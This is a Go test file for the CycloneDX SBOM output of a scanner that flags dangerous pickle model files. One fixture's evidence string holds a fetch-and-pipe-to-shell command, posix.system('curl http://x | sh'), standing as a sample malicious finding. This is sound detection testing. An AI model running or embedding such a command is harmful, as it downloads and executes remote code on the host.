package cyclonedx

import (
	"bytes"
	"context"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	cdx "github.com/CycloneDX/cyclonedx-go"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/knowledge"
	"github.com/modelgate/modelgate/internal/report"
	"github.com/modelgate/modelgate/internal/scan"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

var fixed = Options{Now: func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }}

// pinnedRules replaces the catalogue in golden tests so that rewording a
// rule does not change the golden file.
func pinnedRules(t *testing.T) {
	t.Helper()
	rules := map[string]finding.Rule{
		knowledge.RuleDangerousCall: {ID: knowledge.RuleDangerousCall, Severity: finding.Critical, Title: "Load-time call of a known-dangerous callable",
			Reference: "https://docs.python.org/3/library/pickle.html#restricting-globals"},
		knowledge.RuleSummary: {ID: knowledge.RuleSummary, Severity: finding.Info, Title: "Pickle summary", Reference: "see `modelgate explain`"},
	}
	old := ruleByID
	ruleByID = func(id string) (finding.Rule, bool) { r, ok := rules[id]; return r, ok }
	t.Cleanup(func() { ruleByID = old })
}

// sampleDoc: a finding inside a member, a suppressed one, one in the file
// itself, a file with errors and no digest, a clean file, and a path named
// twice.
func sampleDoc() *report.Document {
	evil := scan.FileResult{
		Path: "models/evil.pt", Format: "pytorch-zip", Size: 1234,
		SHA256: "742a2b5b9a4bc3ee0e1c0e5c1b14e0c8f2b3a0d9e8f7c6b5a4d3c2b1a0f9e8d7",
		Findings: []finding.Finding{
			{RuleID: knowledge.RuleDangerousCall, Severity: finding.Critical, Message: "load-time call of posix.system, which is dangerous",
				Member: "archive/data.pkl", Offset: 57, Evidence: "posix.system('curl http://x | sh')"},
			{RuleID: knowledge.RuleUnknownGlobal, Severity: finding.Medium, Message: "import of __main__.Net, which is not known safe",
				Member: "archive/data.pkl!inner.pkl", Offset: 12, Evidence: "__main__.Net",
				Suppression: &finding.Suppression{Reason: "our own model class, reviewed in SEC-42", Owner: "ml-platform@example.com", Expires: "2099-12-31"}},
			{RuleID: knowledge.RuleSummary, Severity: finding.Info, Message: "pickle protocol 2, 10 opcodes; imports: posix.system",
				Member: "archive/data.pkl", Offset: 0},
		},
	}
	return &report.Document{
		ToolVersion: "0.1.0-test",
		FailOn:      finding.High,
		PolicyHash:  "3f1a9c0de2b54e7a8d6f0b1c2e3d4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4",
		Files: []scan.FileResult{
			evil,
			{
				Path: "models/old.pkl", Format: "pickle", Size: 44,
				SHA256: "5b51dcd64fcf0a4b5b51dcd64fcf0a4b5b51dcd64fcf0a4b5b51dcd64fcf0a4b",
				Findings: []finding.Finding{
					{RuleID: knowledge.RuleOldProtocol, Severity: finding.Low, Message: "pickle protocol 0", Offset: 40, Evidence: "PROTO 0"},
				},
			},
			{Path: "models/truncated.bin", Format: "pickle", Size: 10, Errors: []string{"truncated pickle: unexpected end of data at offset 10"}},
			{Path: "/elsewhere/clean.safetensors", Format: "safetensors", Size: 2048,
				SHA256: "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"},
			evil,
		},
	}
}

func render(t *testing.T, d *report.Document, o Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := WriteOptions(&b, d, o); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the output (go test -update rewrites it); got:\n%s", path, got)
	}
}

func TestGolden(t *testing.T) {
	pinnedRules(t)
	got := render(t, sampleDoc(), fixed)
	golden(t, "report.cdx.json", got)
	if again := render(t, sampleDoc(), fixed); !bytes.Equal(got, again) {
		t.Error("two renderings with the same clock differ")
	}
}

func TestGoldenEmpty(t *testing.T) {
	golden(t, "empty.cdx.json", render(t, &report.Document{ToolVersion: "0.1.0-test", FailOn: finding.High}, fixed))
}

// schema compiles the CycloneDX 1.6 JSON schema (with the SPDX licence and
// JSF signature schemas it references) as shipped in cyclonedx-go v0.12.0.
func schema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	for file, id := range map[string]string{
		"bom-1.6.schema.json":  "http://cyclonedx.org/schema/bom-1.6.schema.json",
		"spdx.schema.json":     "http://cyclonedx.org/schema/spdx.schema.json",
		"jsf-0.82.schema.json": "http://cyclonedx.org/schema/jsf-0.82.schema.json",
	} {
		f, err := os.Open(filepath.Join("testdata", file))
		if err != nil {
			t.Fatal(err)
		}
		doc, err := jsonschema.UnmarshalJSON(f)
		f.Close()
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if err := c.AddResource(id, doc); err != nil {
			t.Fatal(err)
		}
	}
	sch, err := c.Compile("http://cyclonedx.org/schema/bom-1.6.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	return sch
}

func validate(t *testing.T, sch *jsonschema.Schema, name string, out []byte) {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(out))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if err := sch.Validate(v); err != nil {
		t.Errorf("%s does not validate against the CycloneDX 1.6 schema:\n%v", name, err)
	}
}

func TestSchema(t *testing.T) {
	sch := schema(t)
	for _, name := range []string{"report.cdx.json", "empty.cdx.json"} {
		out, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		validate(t, sch, name, out)
	}
	validate(t, sch, "real clock", render(t, sampleDoc(), Options{}))
	// The schema really rejects things.
	bad := `{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"machine-learning-model"}]}`
	v, _ := jsonschema.UnmarshalJSON(strings.NewReader(bad))
	if sch.Validate(v) == nil {
		t.Error("schema accepted a component without a name")
	}
}

func TestRealScanValidates(t *testing.T) {
	paths, _ := filepath.Glob(filepath.Join("..", "..", "formats", "picklefile", "testdata", "malicious", "01-*.pkl"))
	if len(paths) == 0 {
		t.Skip("no fixtures")
	}
	d := &report.Document{ToolVersion: "test", FailOn: finding.High, Files: scan.New().ScanPaths(context.Background(), paths[:min(len(paths), 8)])}
	out := render(t, d, Options{})
	validate(t, schema(t), "real scan", out)
	bom := decode(t, out)
	if bom.Vulnerabilities == nil || len(*bom.Vulnerabilities) == 0 {
		t.Fatal("no vulnerabilities for malicious fixtures")
	}
}

func decode(t *testing.T, out []byte) *cdx.BOM {
	t.Helper()
	bom := new(cdx.BOM)
	if err := cdx.NewBOMDecoder(bytes.NewReader(out), cdx.BOMFileFormatJSON).Decode(bom); err != nil {
		t.Fatal(err)
	}
	return bom
}

func prop(ps *[]cdx.Property, name string) []string {
	var vs []string
	if ps != nil {
		for _, p := range *ps {
			if p.Name == name {
				vs = append(vs, p.Value)
			}
		}
	}
	return vs
}

func TestStructure(t *testing.T) {
	d := sampleDoc()
	bom := decode(t, render(t, d, fixed))

	if bom.BOMFormat != "CycloneDX" || bom.SpecVersion != cdx.SpecVersion1_6 || bom.Version != 1 {
		t.Errorf("header %s %s %d", bom.BOMFormat, bom.SpecVersion, bom.Version)
	}
	if !regexp.MustCompile(`^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`).MatchString(bom.SerialNumber) {
		t.Errorf("serial %q", bom.SerialNumber)
	}
	m := bom.Metadata
	if m == nil || m.Timestamp != "2026-01-02T03:04:05Z" {
		t.Fatalf("metadata %+v", m)
	}
	if m.Tools == nil || m.Tools.Components == nil || (*m.Tools.Components)[0].Name != "modelgate" || (*m.Tools.Components)[0].Version != "0.1.0-test" {
		t.Errorf("tools %+v", m.Tools)
	}
	if got := prop(m.Properties, PropPolicyHash); len(got) != 1 || got[0] != d.PolicyHash {
		t.Errorf("policy hash %v", got)
	}
	if got := prop(m.Properties, PropVerdict); len(got) != 1 || got[0] != "fail" {
		t.Errorf("verdict %v", got)
	}

	// One machine-learning-model component per file, unique refs.
	comps := *bom.Components
	if len(comps) != len(d.Files) {
		t.Fatalf("%d components for %d files", len(comps), len(d.Files))
	}
	refs := map[string]bool{}
	for i, c := range comps {
		if c.Type != cdx.ComponentTypeMachineLearningModel {
			t.Errorf("component %d type %s", i, c.Type)
		}
		if refs[c.BOMRef] {
			t.Errorf("duplicate bom-ref %s", c.BOMRef)
		}
		refs[c.BOMRef] = true
		if got := prop(c.Properties, PropPath); len(got) != 1 || got[0] != d.Files[i].Path {
			t.Errorf("component %d path %v", i, got)
		}
	}
	evil := comps[0]
	if evil.Name != "evil.pt" || evil.Hashes == nil || (*evil.Hashes)[0].Algorithm != cdx.HashAlgoSHA256 || (*evil.Hashes)[0].Value != d.Files[0].SHA256 {
		t.Errorf("evil component %+v", evil)
	}
	for i, want := range []string{"fail", "pass", "incomplete", "pass", "fail"} {
		if got := prop(comps[i].Properties, PropVerdict); len(got) != 1 || got[0] != want {
			t.Errorf("component %d verdict %v, want %s", i, got, want)
		}
	}
	if got := prop(comps[0].Properties, PropFormat); len(got) != 1 || got[0] != "pytorch-zip" {
		t.Errorf("format %v", got)
	}
	if got := prop(comps[0].Properties, PropSize); len(got) != 1 || got[0] != "1234" {
		t.Errorf("size %v", got)
	}
	if comps[2].Hashes != nil || len(prop(comps[2].Properties, PropError)) != 1 {
		t.Errorf("file with errors: %+v", comps[2])
	}

	// One vulnerability per finding, affecting its component.
	vulns := *bom.Vulnerabilities
	if len(vulns) != 7 {
		t.Fatalf("%d vulnerabilities, want 7", len(vulns))
	}
	crit := vulns[0]
	if crit.ID != knowledge.RuleDangerousCall || crit.Source == nil || crit.Source.Name != "modelgate" {
		t.Errorf("vulnerability %+v", crit)
	}
	if r := (*crit.Ratings)[0]; r.Severity != cdx.SeverityCritical || r.Method != cdx.ScoringMethodOther {
		t.Errorf("rating %+v", r)
	}
	if a := *crit.Affects; len(a) != 1 || a[0].Ref != evil.BOMRef {
		t.Errorf("affects %+v", a)
	}
	if !strings.Contains(crit.Description, "posix.system('curl") || !strings.Contains(crit.Detail, "archive/data.pkl") || !strings.Contains(crit.Detail, "57") {
		t.Errorf("description %q detail %q", crit.Description, crit.Detail)
	}
	if crit.Analysis != nil {
		t.Error("an active finding has an analysis")
	}
	if a := *vulns[5].Affects; a[0].Ref != comps[4].BOMRef || a[0].Ref == evil.BOMRef {
		t.Errorf("the repeated file's findings affect %s", a[0].Ref)
	}

	sup := vulns[1]
	if sup.Analysis == nil || sup.Analysis.State != cdx.IASFalsePositive || !strings.Contains(sup.Analysis.Detail, "SEC-42") {
		t.Fatalf("suppressed finding analysis %+v", sup.Analysis)
	}
	if got := prop(sup.Properties, PropSuppOwner); len(got) != 1 || got[0] != "ml-platform@example.com" {
		t.Errorf("suppression owner %v", got)
	}
	if got := prop(sup.Properties, PropSuppExpires); len(got) != 1 || got[0] != "2099-12-31" {
		t.Errorf("suppression expiry %v", got)
	}
}

func TestSerial(t *testing.T) {
	a := decode(t, render(t, sampleDoc(), fixed)).SerialNumber
	later := Options{Now: func() time.Time { return fixed.Now().Add(time.Millisecond) }}
	if b := decode(t, render(t, sampleDoc(), later)).SerialNumber; b == a {
		t.Error("serial does not change with time")
	}
	d := sampleDoc()
	d.PolicyHash = "other"
	if b := decode(t, render(t, d, fixed)).SerialNumber; b == a {
		t.Error("serial does not change with content")
	}
	// RFC 4122 appendix-style check of the v5 construction: the DNS-namespace
	// UUID of "www.example.com" is a well-known value.
	dns := [16]byte{0x6b, 0xa7, 0xb8, 0x10, 0x9d, 0xad, 0x11, 0xd1, 0x80, 0xb4, 0x00, 0xc0, 0x4f, 0xd4, 0x30, 0xc8}
	if got := uuidString(uuidV5(dns, "www.example.com")); got != "2ed6657d-e927-568b-95e1-2665a8aea6a2" {
		t.Errorf("uuidV5 = %s", got)
	}
}

func TestSeverities(t *testing.T) {
	for sev, want := range map[finding.Severity]cdx.Severity{
		finding.Critical: cdx.SeverityCritical, finding.High: cdx.SeverityHigh, finding.Medium: cdx.SeverityMedium,
		finding.Low: cdx.SeverityLow, finding.Info: cdx.SeverityInfo,
	} {
		if got := severity(sev); got != want {
			t.Errorf("%s -> %s, want %s", sev, got, want)
		}
	}
}
